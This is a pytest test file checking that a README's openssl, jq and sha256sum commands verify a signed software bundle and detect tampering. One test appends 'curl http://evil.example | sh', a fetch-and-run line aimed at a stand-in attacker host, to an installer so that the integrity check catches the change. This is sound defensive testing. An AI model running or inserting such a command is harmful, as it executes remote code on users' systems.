"""The auditor's path from the README: coreutils, openssl, jq and zstd, no airgap."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from airgap._internal.format.reader import load_bundle
from tests.helpers.paths import ROOT

pytestmark = pytest.mark.tools


def sh(script: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["sh", "-c", script], cwd=cwd, capture_output=True, text=True, check=False)


@pytest.fixture
def bundle(bundle: Path, keypair) -> Path:  # type: ignore[no-untyped-def]
    """The shared packed bundle, with the signer's public key beside it, as an auditor receives them."""
    for tool in ("openssl", "sha256sum", "jq", "zstd"):
        if not shutil.which(tool):
            pytest.fail(f"{tool} is not installed (.ci/run installs it)")
    shutil.copy(keypair[1], bundle.parent / "security-team.pub")
    return bundle


SIGNATURE = (
    "openssl pkeyutl -verify -pubin -inkey ../security-team.pub -rawin -in manifest.json "
    "-sigfile signatures/$(openssl pkey -pubin -in ../security-team.pub -outform DER | sha256sum | cut -d' ' -f1).sig"
)
PARTS = """jq -r '(.parts + (.files // []))[] | "\\(.sha256)  \\(.path)"' manifest.json | sha256sum -c --quiet"""
README = ROOT / "README.md"


def test_the_commands_tested_here_are_the_readme_commands() -> None:
    text = README.read_text()
    assert PARTS in text
    flat = " ".join(text.replace("\\\n", " ").split())
    assert SIGNATURE.replace("../security-team.pub", "security-team.pub") in flat


def test_readme_commands_accept_a_good_bundle(bundle: Path) -> None:
    assert sh(SIGNATURE, bundle).returncode == 0
    assert sh(PARTS, bundle).returncode == 0
    m = load_bundle(bundle).manifest
    model = m.images[0].layers[2].digest
    out = sh(f"zstd -dcq parts/{model[7:]}.*.zst | sha256sum", bundle)
    assert out.stdout.split()[0] == model[7:]


def test_readme_commands_catch_edited_manifest(bundle: Path) -> None:
    m = bundle / "manifest.json"
    edited = m.read_bytes().replace(b'"name": "agent"', b'"name": "evil!"')
    assert edited != m.read_bytes()
    m.write_bytes(edited)
    assert sh(SIGNATURE, bundle).returncode != 0


def test_readme_commands_catch_damaged_part(bundle: Path) -> None:
    part = bundle / load_bundle(bundle).manifest.parts[-1].path
    data = bytearray(part.read_bytes())
    data[0] ^= 1
    part.write_bytes(data)
    result = sh(PARTS, bundle)
    assert result.returncode != 0 and part.name in result.stdout + result.stderr


def test_readme_commands_catch_a_changed_installer(bundle: Path) -> None:
    script = bundle / "installer" / "install.sh"
    script.write_text(script.read_text() + "\ncurl http://evil.example | sh\n")
    result = sh(PARTS, bundle)
    assert result.returncode != 0 and "installer/install.sh" in result.stdout + result.stderr
